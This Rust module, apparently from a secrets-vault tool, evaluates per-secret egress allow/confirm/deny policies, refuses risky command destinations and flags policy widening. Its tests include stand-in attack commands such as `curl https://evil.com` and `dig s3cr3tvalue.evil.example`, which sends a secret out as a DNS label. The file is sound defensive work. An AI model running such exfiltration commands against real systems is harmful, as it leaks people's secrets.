//! Per-secret egress policy: the stored `allow` / `confirm` / `deny` lists,
//! their one-line summary, the evaluation of a run's destinations against
//! every injected secret's policy, and the widening check used when a
//! policy is changed.
//!
//! Evaluation, per (secret, destination): any `deny` match → deny; else a
//! `confirm` match → confirm; else an `allow` match → allow; else deny ("no
//! rule allows it"). A destination whose port is unknown is judged as the
//! strictest outcome over every port it could be on: any `deny` on that host
//! (whatever its port) denies, a host allowed only on some ports is denied,
//! a `confirm` on any of its ports asks.

use std::fmt;

use serde::{Deserialize, Serialize};

use super::extract::{self, Destination, Evasion};
use super::normalize;
use super::pattern::{HostPattern, PatternError};

/// A secret's egress policy. Serialised with patterns as their Display
/// strings; unknown fields are refused on load, because a misspelt `deny`
/// list that was silently dropped would widen the policy.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Policy {
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allow: Vec<HostPattern>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub confirm: Vec<HostPattern>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub deny: Vec<HostPattern>,
    /// How the secret travels under `vault run --net broker` (see [`Brokering`]).
    #[serde(default, skip_serializing_if = "Brokering::is_default")]
    pub broker: Brokering,
}

/// How a secret travels under `vault run --net broker`. Ordered by how much it exposes: a
/// change up the order widens the policy.
#[derive(
    Debug,
    Clone,
    Copy,
    Default,
    PartialEq,
    Eq,
    PartialOrd,
    Ord,
    Serialize,
    Deserialize,
    clap::ValueEnum,
)]
#[serde(rename_all = "lowercase")]
pub enum Brokering {
    /// The child holds a stand-in; the broker puts the value into request heads (request
    /// line, headers) bound for allowed hosts.
    #[default]
    Headers,
    /// As `headers`, and into request bodies too.
    Body,
    /// Injected for real (for non-HTTP clients: a database password, an ssh key); the
    /// run's network then gets `--net strict` treatment for it.
    Never,
}

impl Brokering {
    fn is_default(&self) -> bool {
        *self == Brokering::Headers
    }

    /// The name as typed (`headers`, `body`, `never`).
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Brokering::Headers => "headers",
            Brokering::Body => "body",
            Brokering::Never => "never",
        }
    }
}

impl Policy {
    /// Build a policy from the three lists as typed by the user (e.g.
    /// repeated `--allow`, `--confirm`, `--deny`). Exact duplicates within a
    /// list are dropped; order is kept. The first bad pattern is the error.
    pub fn from_lists<S: AsRef<str>>(
        allow: &[S],
        confirm: &[S],
        deny: &[S],
    ) -> Result<Self, PatternError> {
        fn parse_all<S: AsRef<str>>(items: &[S]) -> Result<Vec<HostPattern>, PatternError> {
            let mut out: Vec<HostPattern> = Vec::with_capacity(items.len());
            for item in items {
                let pat = HostPattern::parse(item.as_ref())?;
                if !out.contains(&pat) {
                    out.push(pat);
                }
            }
            Ok(out)
        }
        Ok(Self {
            allow: parse_all(allow)?,
            confirm: parse_all(confirm)?,
            deny: parse_all(deny)?,
            broker: Brokering::default(),
        })
    }

    /// No rule at all: every destination is denied for this secret.
    pub fn is_empty(&self) -> bool {
        self.allow.is_empty() && self.confirm.is_empty() && self.deny.is_empty()
    }

    /// One line for `vault list`, e.g.
    /// `allow api.github.com, *.example.com; deny *`.
    pub fn summary(&self) -> String {
        let mut parts = Vec::new();
        for (word, list) in [
            ("allow", &self.allow),
            ("confirm", &self.confirm),
            ("deny", &self.deny),
        ] {
            if !list.is_empty() {
                let items: Vec<String> = list.iter().map(ToString::to_string).collect();
                parts.push(format!("{word} {}", items.join(", ")));
            }
        }
        if parts.is_empty() {
            parts.push("no hosts allowed".to_string());
        }
        if !self.broker.is_default() {
            parts.push(format!("broker {}", self.broker.as_str()));
        }
        parts.join("; ")
    }
}

/// What one policy says about one destination.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    Allow,
    /// The rule that asks, e.g. `confirm *.example.com`.
    Confirm(String),
    /// The rule that decided, e.g. `deny *.evil.com` or `no rule allows it`.
    Deny(String),
}

/// The rule text used when nothing matched.
pub const NO_RULE: &str = "no rule allows it";

impl Policy {
    /// Judge one normalised host and port (`None`: port unknown).
    pub fn verdict(&self, host: &str, port: Option<u16>) -> Verdict {
        let hit = |list: &[HostPattern], word: &str| {
            list.iter()
                .find(|p| match port {
                    Some(port) => p.matches(host, port),
                    // Unknown port: a rule on any port of this host counts
                    // for deny and confirm (strictest outcome).
                    None => p.matches_host(host),
                })
                .map(|p| format!("{word} {p}"))
        };
        if let Some(rule) = hit(&self.deny, "deny") {
            return Verdict::Deny(rule);
        }
        if port.is_none() {
            // Reachable on every port only through a port-less rule.
            let everywhere = self
                .confirm
                .iter()
                .chain(&self.allow)
                .any(|p| p.port().is_none() && p.matches_host(host));
            if !everywhere {
                return Verdict::Deny(format!("{NO_RULE} on every port (port unknown)"));
            }
        }
        if let Some(rule) = hit(&self.confirm, "confirm") {
            return Verdict::Confirm(rule);
        }
        if hit(&self.allow, "allow").is_some() {
            return Verdict::Allow;
        }
        Verdict::Deny(NO_RULE.to_string())
    }
}

/// One refused (secret, destination) pair.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Denial {
    pub secret: String,
    /// `host` or `host:port` (IPv6 in brackets).
    pub destination: String,
    /// `deny *.evil.com`, `no rule allows it`, …
    pub rule: String,
}

impl fmt::Display for Denial {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} may not be sent to {} ({})",
            self.secret, self.destination, self.rule
        )
    }
}

/// The outcome for a whole run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Decision {
    Allow,
    /// Ask once for the run, listing (secret, `host[:port]`) pairs.
    Confirm(Vec<(String, String)>),
    /// Every refused pair, in argv order.
    Deny(Vec<Denial>),
    /// The command hides or redirects its destination.
    Refuse(Evasion),
}

/// Judge every (secret, destination) pair. Deny beats confirm beats allow;
/// no secret or no destination allows.
pub fn evaluate(secrets: &[(&str, &Policy)], destinations: &[Destination]) -> Decision {
    let mut confirm: Vec<(String, String)> = Vec::new();
    let mut deny: Vec<Denial> = Vec::new();
    for dest in destinations {
        let shown = normalize::display_host_port(&dest.host, dest.port);
        for (name, policy) in secrets {
            match policy.verdict(&dest.host, dest.port) {
                Verdict::Allow => {}
                Verdict::Confirm(_) => {
                    let pair = ((*name).to_string(), shown.clone());
                    if !confirm.contains(&pair) {
                        confirm.push(pair);
                    }
                }
                Verdict::Deny(rule) => {
                    let d = Denial {
                        secret: (*name).to_string(),
                        destination: shown.clone(),
                        rule,
                    };
                    if !deny.contains(&d) {
                        deny.push(d);
                    }
                }
            }
        }
    }
    if !deny.is_empty() {
        Decision::Deny(deny)
    } else if !confirm.is_empty() {
        Decision::Confirm(confirm)
    } else {
        Decision::Allow
    }
}

/// What [`check_argv`] found and decided.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Check {
    /// Every destination found (empty when the command was refused as an evasion).
    pub destinations: Vec<Destination>,
    pub decision: Decision,
}

/// The one egress decision `vault run` makes: extract the destinations of `argv` (the
/// template, before placeholders are substituted) and judge them against every injected
/// secret's policy. With no secret injected nothing is checked. An evasion, or a
/// destination host in which `holds_secret` finds an injected value (a value sent out as a
/// DNS label), refuses the run.
pub fn check_argv(
    secrets: &[(&str, &Policy)],
    argv: &[String],
    holds_secret: &dyn Fn(&str) -> bool,
) -> Check {
    if secrets.is_empty() {
        return Check {
            destinations: Vec::new(),
            decision: Decision::Allow,
        };
    }
    let destinations = match extract::destinations(argv) {
        Ok(d) => d,
        Err(e) => {
            return Check {
                destinations: Vec::new(),
                decision: Decision::Refuse(e),
            };
        }
    };
    if let Some(d) = destinations.iter().find(|d| holds_secret(&d.host)) {
        let decision = Decision::Refuse(Evasion {
            reason: "a destination host contains a secret's value, which the name lookup alone sends out".to_string(),
            location: d.source.clone(),
        });
        return Check {
            destinations,
            decision,
        };
    }
    let decision = evaluate(secrets, &destinations);
    Check {
        destinations,
        decision,
    }
}

/// Reasons why `new` lets the secret reach some (host, port) that `old`
/// denied, or reach it with less friction (deny → confirm/allow, confirm →
/// allow). Empty means `new` is provably no wider than `old`.
///
/// Conservative: set inclusion is only proven pattern by pattern (a pattern
/// covered by the union of several others, e.g. a host allowed on each of
/// its ports separately, is still reported). Removing a deny that no
/// remaining allow/confirm rule overlaps is not widening, because the
/// default is already to deny.
pub fn widening(old: &Policy, new: &Policy) -> Vec<String> {
    let covered = |p: &HostPattern, lists: &[&[HostPattern]]| {
        lists.iter().any(|l| l.iter().any(|q| q.covers(p)))
    };
    let mut reasons: Vec<String> = Vec::new();
    let mut add = |r: String| {
        if !reasons.contains(&r) {
            reasons.push(r);
        }
    };
    if new.broker > old.broker {
        add(match new.broker {
            Brokering::Never => {
                "broker never: under --net broker the command gets the real value, not a stand-in"
                    .to_string()
            }
            _ => format!(
                "broker {}: under --net broker the value is also put into request bodies",
                new.broker.as_str()
            ),
        });
    }
    let reachable_new = new
        .allow
        .iter()
        .map(|p| ("allow", p))
        .chain(new.confirm.iter().map(|p| ("confirm", p)));

    // 1. Reachable (confirm or allow) under new ⇒ reachable under old:
    //    p \ D' ⊆ (A ∪ C) \ D, checked as p ⊆ one of D' ∪ A ∪ C, and
    //    p ∩ d ⊆ one of D' for every old deny d.
    // 2. Allowed without asking under new ⇒ the same under old:
    //    p \ (C' ∪ D') ⊆ A \ (C ∪ D), checked the same way.
    // Specific reasons (naming the old rule) come first; the generic one
    // only when no specific one was found for that pattern.
    for (kind, p) in reachable_new {
        let mut fired = false;
        for d in &old.deny {
            if let Some(i) = p.intersect(d)
                && !covered(&i, &[&new.deny])
            {
                add(format!(
                    "{kind} {p}: reaches {i}, which the old policy denied (deny {d})"
                ));
                fired = true;
            }
        }
        if !fired && !covered(p, &[&new.deny, &old.allow, &old.confirm]) {
            add(format!(
                "{kind} {p}: reaches destinations the old policy denied"
            ));
            fired = true;
        }
        if fired || kind != "allow" {
            continue;
        }
        for (wkind, w) in old
            .confirm
            .iter()
            .map(|w| ("confirm", w))
            .chain(old.deny.iter().map(|w| ("deny", w)))
        {
            if let Some(i) = p.intersect(w)
                && !covered(&i, &[&new.confirm, &new.deny])
            {
                add(format!(
                    "allow {p}: reaches {i} without asking, which the old policy did not allow ({wkind} {w})"
                ));
                fired = true;
            }
        }
        if !fired && !covered(p, &[&new.confirm, &new.deny, &old.allow]) {
            add(format!(
                "allow {p}: reaches without asking destinations the old policy asked about or denied"
            ));
        }
    }
    reasons
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::egress::pattern::tests::small_pattern;
    use proptest::prelude::*;

    #[test]
    fn summary_and_empty() {
        let p = Policy::from_lists(&["api.github.com", "*.Example.com"], &[], &["*"]).expect("ok");
        assert_eq!(p.summary(), "allow api.github.com, *.example.com; deny *");
        assert!(!p.is_empty());
        let e = Policy::default();
        assert!(e.is_empty());
        assert_eq!(e.summary(), "no hosts allowed");
        let c = Policy::from_lists(&[], &["[::1]:8080", "[::1]:8080"], &[]).expect("ok");
        assert_eq!(c.summary(), "confirm [::1]:8080");
    }

    #[test]
    fn from_lists_reports_the_bad_pattern() {
        let err = Policy::from_lists(&["ok.com"], &[], &["https://bad.com"]).expect_err("bad");
        assert_eq!(err.pattern, "https://bad.com");
    }

    #[test]
    fn serde() {
        let p = Policy::from_lists(&["API.github.com"], &["*.x.com:22"], &["*"]).expect("ok");
        let json = serde_json::to_string(&p).expect("ser");
        assert_eq!(
            json,
            r#"{"allow":["api.github.com"],"confirm":["*.x.com:22"],"deny":["*"]}"#
        );
        assert_eq!(serde_json::from_str::<Policy>(&json).expect("de"), p);
        // Missing lists default to empty.
        let only: Policy = serde_json::from_str(r#"{"allow":["a.com"]}"#).expect("de");
        assert_eq!(only.allow.len(), 1);
        assert!(only.deny.is_empty());
        assert_eq!(
            serde_json::from_str::<Policy>("{}").expect("de"),
            Policy::default()
        );
        // A bad stored pattern is an error, never ignored.
        assert!(serde_json::from_str::<Policy>(r#"{"deny":["*.ok.com","a*.b"]}"#).is_err());
        // A misspelt list is an error too.
        assert!(serde_json::from_str::<Policy>(r#"{"denny":["*"]}"#).is_err());
    }

    fn pol(allow: &[&str], confirm: &[&str], deny: &[&str]) -> Policy {
        Policy::from_lists(allow, confirm, deny).expect("valid test policy")
    }

    fn dest(host: &str, port: Option<u16>) -> Destination {
        Destination {
            host: normalize::host(host).expect("valid host"),
            port,
            source: "test".to_string(),
        }
    }

    #[test]
    fn verdicts() {
        let p = pol(
            &[
                "*.github.com",
                "api.example.com:443",
                "10.0.0.1",
                "[::1]:8080",
            ],
            &["*.corp.example"],
            &["evil.github.com", "*:25"],
        );
        assert_eq!(p.verdict("api.github.com", Some(443)), Verdict::Allow);
        assert_eq!(p.verdict("a.b.github.com", Some(22)), Verdict::Allow);
        // Wildcards stop at the label boundary and never match the base.
        assert_eq!(
            p.verdict("github.com", Some(443)),
            Verdict::Deny(NO_RULE.to_string())
        );
        assert_eq!(
            p.verdict("evilgithub.com", Some(443)),
            Verdict::Deny(NO_RULE.to_string())
        );
        // Deny wins over allow.
        assert_eq!(
            p.verdict("evil.github.com", Some(443)),
            Verdict::Deny("deny evil.github.com".to_string())
        );
        assert_eq!(
            p.verdict("api.github.com", Some(25)),
            Verdict::Deny("deny *:25".to_string())
        );
        // Ports.
        assert_eq!(p.verdict("api.example.com", Some(443)), Verdict::Allow);
        assert_eq!(
            p.verdict("api.example.com", Some(80)),
            Verdict::Deny(NO_RULE.to_string())
        );
        // IP literals.
        assert_eq!(p.verdict("10.0.0.1", Some(5432)), Verdict::Allow);
        assert_eq!(
            p.verdict("10.0.0.2", Some(5432)),
            Verdict::Deny(NO_RULE.to_string())
        );
        assert_eq!(p.verdict("::1", Some(8080)), Verdict::Allow);
        assert_eq!(
            p.verdict("::1", Some(8081)),
            Verdict::Deny(NO_RULE.to_string())
        );
        // Confirm.
        assert_eq!(
            p.verdict("git.corp.example", Some(443)),
            Verdict::Confirm("confirm *.corp.example".to_string())
        );
        // Deny beats confirm.
        assert_eq!(
            p.verdict("mail.corp.example", Some(25)),
            Verdict::Deny("deny *:25".to_string())
        );
        // Confirm beats allow.
        let q = pol(&["*"], &["x.com"], &[]);
        assert_eq!(
            q.verdict("x.com", Some(1)),
            Verdict::Confirm("confirm x.com".to_string())
        );
        assert_eq!(q.verdict("y.com", Some(1)), Verdict::Allow);
    }

    #[test]
    fn unknown_port_is_judged_strictly() {
        let p = pol(
            &["a.com", "b.com:443"],
            &["c.com", "a.com:22"],
            &["d.com:25"],
        );
        // Allowed on every port.
        assert_eq!(
            p.verdict("a.com", None),
            Verdict::Confirm("confirm a.com:22".to_string())
        );
        // Allowed only on 443: some port would be denied.
        assert!(matches!(p.verdict("b.com", None), Verdict::Deny(_)));
        assert!(matches!(p.verdict("c.com", None), Verdict::Confirm(_)));
        // A deny on any port of the host denies.
        let q = pol(&["*"], &[], &["d.com:25"]);
        assert_eq!(
            q.verdict("d.com", None),
            Verdict::Deny("deny d.com:25".to_string())
        );
        assert_eq!(q.verdict("e.com", None), Verdict::Allow);
        assert_eq!(q.verdict("d.com", Some(443)), Verdict::Allow);
    }

    #[test]
    fn empty_policy_denies_everything() {
        let p = Policy::default();
        assert_eq!(
            p.verdict("a.com", Some(443)),
            Verdict::Deny(NO_RULE.to_string())
        );
        let d = evaluate(&[("T", &p)], &[dest("a.com", Some(443))]);
        assert_eq!(
            d,
            Decision::Deny(vec![Denial {
                secret: "T".to_string(),
                destination: "a.com:443".to_string(),
                rule: NO_RULE.to_string(),
            }])
        );
    }

    #[test]
    fn evaluation_across_secrets() {
        let gh = pol(&["api.github.com"], &[], &[]);
        let any = pol(&["*"], &["*.internal"], &["*.evil.com"]);
        let secrets = [("GH", &gh), ("ANY", &any)];
        assert_eq!(evaluate(&secrets, &[]), Decision::Allow);
        assert_eq!(evaluate(&[], &[dest("evil.com", Some(1))]), Decision::Allow);
        assert_eq!(
            evaluate(&secrets, &[dest("api.github.com", Some(443))]),
            Decision::Allow
        );
        // One secret's denial denies the run; every denial is listed.
        match evaluate(
            &secrets,
            &[dest("x.evil.com", Some(443)), dest("b.com", Some(80))],
        ) {
            Decision::Deny(d) => {
                let shown: Vec<String> = d.iter().map(ToString::to_string).collect();
                assert_eq!(
                    shown,
                    vec![
                        "GH may not be sent to x.evil.com:443 (no rule allows it)",
                        "ANY may not be sent to x.evil.com:443 (deny *.evil.com)",
                        "GH may not be sent to b.com:80 (no rule allows it)",
                    ]
                );
            }
            other => panic!("expected deny, got {other:?}"),
        }
        // Confirm is asked once per run, listing the pairs.
        let only_any = [("ANY", &any), ("ANY2", &any)];
        assert_eq!(
            evaluate(
                &only_any,
                &[
                    dest("db.internal", Some(5432)),
                    dest("db.internal", Some(5432)),
                    dest("[::1]", Some(1))
                ]
            ),
            Decision::Confirm(vec![
                ("ANY".to_string(), "db.internal:5432".to_string()),
                ("ANY2".to_string(), "db.internal:5432".to_string()),
            ])
        );
        // Deny beats confirm across destinations.
        assert!(matches!(
            evaluate(
                &only_any,
                &[dest("db.internal", Some(5432)), dest("a.evil.com", None)]
            ),
            Decision::Deny(_)
        ));
    }

    #[test]
    fn check_argv_end_to_end() {
        let gh = pol(&["api.github.com:443"], &[], &[]);
        let argv = |a: &[&str]| a.iter().map(|s| (*s).to_string()).collect::<Vec<_>>();
        let secrets = [("GH", &gh)];
        assert_eq!(
            check_argv(
                &secrets,
                &argv(&["curl", "https://api.github.com/user"]),
                &|_| false
            )
            .decision,
            Decision::Allow
        );
        assert_eq!(
            check_argv(
                &secrets,
                &argv(&["curl", "HTTPS://API.GITHUB.COM./x"]),
                &|_| false
            )
            .decision,
            Decision::Allow
        );
        assert!(matches!(
            check_argv(
                &secrets,
                &argv(&["curl", "http://api.github.com/"]),
                &|_| false
            )
            .decision,
            Decision::Deny(_)
        ));
        assert!(matches!(
            check_argv(&secrets, &argv(&["curl", "https://evil.com"]), &|_| false).decision,
            Decision::Deny(_)
        ));
        assert!(matches!(
            check_argv(
                &secrets,
                &argv(&["curl", "-x", "p:1", "https://api.github.com"]),
                &|_| false
            )
            .decision,
            Decision::Refuse(_)
        ));
        assert_eq!(
            check_argv(&secrets, &argv(&["echo", "hello"]), &|_| false).decision,
            Decision::Allow
        );
        // No secret injected: nothing to protect, nothing checked.
        assert_eq!(
            check_argv(
                &[],
                &argv(&["curl", "-x", "p:1", "https://evil.com"]),
                &|_| false
            )
            .decision,
            Decision::Allow
        );
        // A value sent out as a DNS label is refused whatever the policy says.
        let all = pol(&["*"], &[], &[]);
        let open = [("TOK", &all)];
        let holds = |h: &str| h.contains("s3cr3tvalue");
        let c = check_argv(&open, &argv(&["dig", "s3cr3tvalue.evil.example"]), &holds);
        assert!(matches!(c.decision, Decision::Refuse(_)), "{c:?}");
        let c = check_argv(&open, &argv(&["dig", "ok.example"]), &holds);
        assert_eq!(c.decision, Decision::Allow);
        assert_eq!(c.destinations.len(), 1);
    }

    fn widens(old: &Policy, new: &Policy) -> bool {
        !widening(old, new).is_empty()
    }

    #[test]
    fn narrowing_is_not_widening() {
        let base = pol(
            &["api.github.com", "*.example.com", "10.0.0.1:5432"],
            &["*.corp.example"],
            &["evil.example.com"],
        );
        let cases: Vec<(&str, Policy)> = vec![
            ("identical", base.clone()),
            (
                "remove an allow",
                pol(
                    &["api.github.com", "10.0.0.1:5432"],
                    &["*.corp.example"],
                    &["evil.example.com"],
                ),
            ),
            ("remove every rule", Policy::default()),
            (
                "add a deny",
                pol(
                    &["api.github.com", "*.example.com", "10.0.0.1:5432"],
                    &["*.corp.example"],
                    &["evil.example.com", "*:25"],
                ),
            ),
            ("deny everything", pol(&["api.github.com"], &[], &["*"])),
            (
                "allow → confirm",
                pol(
                    &["*.example.com", "10.0.0.1:5432"],
                    &["*.corp.example", "api.github.com"],
                    &["evil.example.com"],
                ),
            ),
            (
                "narrow a wildcard",
                pol(
                    &["api.github.com", "*.x.example.com", "10.0.0.1:5432"],
                    &["*.corp.example"],
                    &["evil.example.com"],
                ),
            ),
            (
                "wildcard → one host",
                pol(
                    &["api.github.com", "www.example.com", "10.0.0.1:5432"],
                    &["*.corp.example"],
                    &["evil.example.com"],
                ),
            ),
            (
                "add a port",
                pol(
                    &["api.github.com:443", "*.example.com", "10.0.0.1:5432"],
                    &["*.corp.example"],
                    &["evil.example.com"],
                ),
            ),
            (
                "remove a confirm",
                pol(
                    &["api.github.com", "*.example.com", "10.0.0.1:5432"],
                    &[],
                    &["evil.example.com"],
                ),
            ),
            (
                "reorder",
                pol(
                    &["10.0.0.1:5432", "*.example.com", "api.github.com"],
                    &["*.corp.example"],
                    &["evil.example.com"],
                ),
            ),
            (
                "duplicate",
                pol(
                    &[
                        "api.github.com",
                        "api.github.com.",
                        "*.example.com",
                        "10.0.0.1:5432",
                    ],
                    &["*.corp.example"],
                    &["evil.example.com"],
                ),
            ),
            (
                "deny widened",
                pol(
                    &["api.github.com", "*.example.com", "10.0.0.1:5432"],
                    &["*.corp.example"],
                    &["*.example.com"],
                ),
            ),
        ];
        for (what, new) in cases {
            assert_eq!(widening(&base, &new), Vec::<String>::new(), "{what}");
        }
        // A removed deny covered by a remaining deny.
        let old = pol(&["*"], &[], &["a.evil.com", "*.evil.com"]);
        let new = pol(&["*"], &[], &["*.evil.com"]);
        assert!(!widens(&old, &new));
        // A removed deny that no allow/confirm overlaps changes nothing.
        let old = pol(&["api.github.com"], &[], &["evil.com"]);
        let new = pol(&["api.github.com"], &[], &[]);
        assert!(!widens(&old, &new));
        // Covered by a broader old allow.
        assert!(!widens(
            &pol(&["*"], &[], &[]),
            &pol(&["a.com:1", "*.b.com"], &["c.com"], &[])
        ));
        assert!(!widens(
            &pol(&["*.a.com"], &[], &[]),
            &pol(&["x.a.com", "*.y.a.com:443"], &[], &[])
        ));
        // confirm → deny.
        assert!(!widens(
            &pol(&[], &["a.com"], &[]),
            &pol(&[], &[], &["a.com"])
        ));
        assert!(!widens(&pol(&[], &["a.com"], &[]), &Policy::default()));
    }

    #[test]
    fn widening_is_reported() {
        let cases: Vec<(&str, Policy, Policy)> = vec![
            (
                "empty → allow",
                Policy::default(),
                pol(&["a.com"], &[], &[]),
            ),
            (
                "empty → confirm",
                Policy::default(),
                pol(&[], &["a.com"], &[]),
            ),
            (
                "add an allow",
                pol(&["a.com"], &[], &[]),
                pol(&["a.com", "b.com"], &[], &[]),
            ),
            (
                "confirm → allow",
                pol(&[], &["a.com"], &[]),
                pol(&["a.com"], &[], &[]),
            ),
            (
                "deny → confirm",
                pol(&["*"], &[], &["a.com"]),
                pol(&["*"], &["a.com"], &[]),
            ),
            (
                "deny → allow",
                pol(&["*"], &[], &["a.com"]),
                pol(&["*"], &[], &[]),
            ),
            (
                "remove overlapping deny",
                pol(&["*.a.com"], &[], &["x.a.com"]),
                pol(&["*.a.com"], &[], &[]),
            ),
            (
                "deny narrowed",
                pol(&["*"], &[], &["*.evil.com"]),
                pol(&["*"], &[], &["a.evil.com"]),
            ),
            (
                "deny gains a port",
                pol(&["*"], &[], &["evil.com"]),
                pol(&["*"], &[], &["evil.com:443"]),
            ),
            (
                "drop a port",
                pol(&["a.com:443"], &[], &[]),
                pol(&["a.com"], &[], &[]),
            ),
            (
                "change a port",
                pol(&["a.com:443"], &[], &[]),
                pol(&["a.com:8443"], &[], &[]),
            ),
            (
                "host → wildcard",
                pol(&["x.a.com"], &[], &[]),
                pol(&["*.a.com"], &[], &[]),
            ),
            (
                "widen wildcard",
                pol(&["*.x.a.com"], &[], &[]),
                pol(&["*.a.com"], &[], &[]),
            ),
            (
                "wildcard → base",
                pol(&["*.a.com"], &[], &[]),
                pol(&["a.com"], &[], &[]),
            ),
            (
                "anything → *",
                pol(&["a.com"], &[], &[]),
                pol(&["*"], &[], &[]),
            ),
            (
                "remove a confirm under allow *",
                pol(&["*"], &["x.com"], &[]),
                pol(&["*"], &[], &[]),
            ),
            (
                "confirm narrowed under allow *",
                pol(&["*"], &["*.x.com"], &[]),
                pol(&["*"], &["a.x.com"], &[]),
            ),
            (
                "deny * removed",
                pol(&["a.com"], &[], &["*"]),
                pol(&["a.com"], &[], &[]),
            ),
            (
                "new IP",
                pol(&["10.0.0.1"], &[], &[]),
                pol(&["10.0.0.1", "10.0.0.2"], &[], &[]),
            ),
            (
                "allow * with deny → allow *",
                pol(&["*"], &[], &["*:25"]),
                pol(&["*"], &[], &[]),
            ),
        ];
        for (what, old, new) in cases {
            let r = widening(&old, &new);
            assert!(!r.is_empty(), "{what}: expected a reason");
            assert!(r.iter().all(|l| !l.contains('\n')), "{what}: {r:?}");
        }
        let r = widening(&pol(&["*"], &[], &["evil.com"]), &pol(&["*"], &[], &[]));
        assert_eq!(
            r,
            vec![
                "allow *: reaches evil.com, which the old policy denied (deny evil.com)"
                    .to_string()
            ]
        );
        let r = widening(&pol(&[], &["a.com"], &[]), &pol(&["a.com"], &[], &[]));
        assert_eq!(
            r,
            vec!["allow a.com: reaches a.com without asking, which the old policy did not allow (confirm a.com)".to_string()]
        );
    }

    fn small_policy() -> impl Strategy<Value = Policy> {
        let list = || proptest::collection::vec(small_pattern(), 0..4);
        (list(), list(), list())
            .prop_map(|(a, c, d)| Policy::from_lists(&a, &c, &d).expect("valid"))
    }

    fn rank(v: &Verdict) -> u8 {
        match v {
            Verdict::Deny(_) => 0,
            Verdict::Confirm(_) => 1,
            Verdict::Allow => 2,
        }
    }

    fn universe() -> Vec<String> {
        let mut hosts = Vec::new();
        let labels = ["a", "b", "c"];
        let mut level: Vec<String> = labels.iter().map(|l| (*l).to_string()).collect();
        for _ in 0..4 {
            hosts.extend(level.iter().cloned());
            level = level
                .iter()
                .flat_map(|h| labels.iter().map(move |l| format!("{l}.{h}")))
                .collect();
        }
        hosts
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(400))]

        /// If `widening` finds nothing, no destination (on ports 1–4 or an
        /// unknown port) gets a more permissive verdict under `new`.
        #[test]
        fn widening_is_sound(old in small_policy(), new in small_policy()) {
            if widening(&old, &new).is_empty() {
                for h in universe() {
                    for port in [Some(1), Some(2), Some(3), Some(4), None] {
                        let (o, n) = (old.verdict(&h, port), new.verdict(&h, port));
                        prop_assert!(
                            rank(&n) <= rank(&o),
                            "{} :{:?} was {:?} now {:?}; old {} / new {}",
                            h, port, o, n, old.summary(), new.summary()
                        );
                    }
                }
            }
        }

        /// A policy never widens itself, and removing rules from `allow`
        /// never widens.
        #[test]
        fn self_and_subsets(p in small_policy(), k in 0usize..4) {
            prop_assert!(widening(&p, &p).is_empty());
            let mut q = p.clone();
            if k < q.allow.len() {
                q.allow.remove(k);
            }
            prop_assert!(widening(&p, &q).is_empty());
        }

        #[test]
        fn policy_serde_roundtrip(p in small_policy()) {
            let json = serde_json::to_string(&p).expect("ser");
            prop_assert_eq!(serde_json::from_str::<Policy>(&json).expect("de"), p);
        }
    }
}

#[cfg(test)]
mod broker_tests {
    use super::{Brokering, Policy, widening};

    #[test]
    fn brokering_is_stored_only_when_set_and_widens_upwards() {
        let mut p = Policy::from_lists(&["a.com"], &[], &[]).expect("ok");
        assert_eq!(
            serde_json::to_string(&p).expect("ser"),
            r#"{"allow":["a.com"]}"#
        );
        let mut never = p.clone();
        never.broker = Brokering::Never;
        let json = serde_json::to_string(&never).expect("ser");
        assert_eq!(json, r#"{"allow":["a.com"],"broker":"never"}"#);
        assert_eq!(serde_json::from_str::<Policy>(&json).expect("de"), never);
        assert!(serde_json::from_str::<Policy>(r#"{"broker":"sometimes"}"#).is_err());
        assert_eq!(never.summary(), "allow a.com; broker never");
        assert_eq!(widening(&p, &never).len(), 1);
        assert!(widening(&never, &p).is_empty());
        p.broker = Brokering::Body;
        assert!(widening(&p, &never)[0].contains("real value"));
        assert!(widening(&Policy::default(), &p)[0].contains("request bodies"));
    }
}
